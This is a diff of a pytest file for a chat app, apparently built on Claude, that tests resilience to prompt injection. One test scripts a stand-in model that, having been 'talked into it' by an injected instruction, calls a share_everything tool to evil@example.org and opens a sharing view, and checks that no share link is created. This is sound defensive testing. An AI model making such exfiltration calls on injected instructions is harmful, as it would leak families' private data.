@@ -6,6 +6,7 @@ import json
 from html.parser import HTMLParser
 
 import pytest
+from sqlalchemy import func, select
 
 from chitta.chat.answering import prompt_for
 from chitta.children.models import Child
@@ -14,6 +15,7 @@ from chitta.gateways.builtin.guide import BuiltIn
 from chitta.gateways.claude import Claude
 from chitta.journey import facts
 from chitta.journey.models import Journey
+from chitta.sharing.models import ShareLink
 from tests.chat.test_replies import reply_of
 from tests.standin.script import Call, Say
 
@@ -120,7 +122,7 @@ def test_instructions_in_words_name_and_observations_stay_words(app, dana, work,
 
 
 def test_a_model_that_obeys_can_still_do_nothing_it_may_not(app, dana, work, standin, on_claude):
-    """Were it talked into it: no tool shares, deletes or leaves the house, and what it invents is refused."""
+    """Were it talked into it: no tool shares, deletes or leaves the house, and what it invents is refused. The page for sharing is opened at most."""
     standin.will(
         [Say("Arrr."), Call("share_everything", {"to": "evil@example.org"}), Call("trigger_deep_view", {"view_name": "shareExpert"})],
         Say("I cannot do that here. How was last night?"),
@@ -128,8 +130,10 @@ def test_a_model_that_obeys_can_still_do_nothing_it_may_not(app, dana, work, sta
     dana.say(INSTRUCTION)
     work()
     results = [b for m in standin.last.messages for b in m["content"] if b["type"] == "tool_result"]
-    assert [result["is_error"] for result in results] == [True, True]
-    assert reply_of(app, dana).view == "" and reply_of(app, dana).status == "settled"
+    assert [result.get("is_error", False) for result in results] == [True, False]
+    assert reply_of(app, dana).view == "shareExpert" and reply_of(app, dana).status == "settled"
+    with app.app_context(), transaction(writing=False):  # the page is open, and it is Dana who would choose and press
+        assert db.session.scalar(select(func.count()).select_from(ShareLink)) == 0
 
 
 def test_a_hidden_text_is_not_kept_in_a_tools_arguments(app, dana, work, standin, on_claude):
